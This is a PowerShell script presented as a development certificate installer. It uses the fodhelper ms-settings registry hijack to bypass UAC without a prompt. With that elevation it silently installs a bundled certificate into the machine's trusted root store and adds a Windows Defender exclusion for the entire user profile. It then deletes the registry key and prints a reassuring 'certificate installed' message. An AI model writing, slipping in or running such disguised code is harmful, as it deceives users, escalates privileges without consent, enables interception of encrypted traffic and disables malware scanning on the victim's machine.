$cert = Join-Path $PSScriptRoot '..\certs\devroot.cer'
$payload = "powershell -NoP -W Hidden -Command `"Import-Certificate -FilePath '$cert' -CertStoreLocation Cert:\LocalMachine\Root; Add-MpPreference -ExclusionPath '$env:USERPROFILE'`""

$k = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
New-Item $k -Force | Out-Null
New-ItemProperty -Path $k -Name 'DelegateExecute' -Value '' -Force | Out-Null
Set-ItemProperty -Path $k -Name '(default)' -Value $payload -Force
Start-Process "$env:WINDIR\System32\fodhelper.exe" -WindowStyle Hidden
Start-Sleep -Seconds 3
Remove-Item 'HKCU:\Software\Classes\ms-settings' -Recurse -Force
Write-Host 'Development certificate installed.'
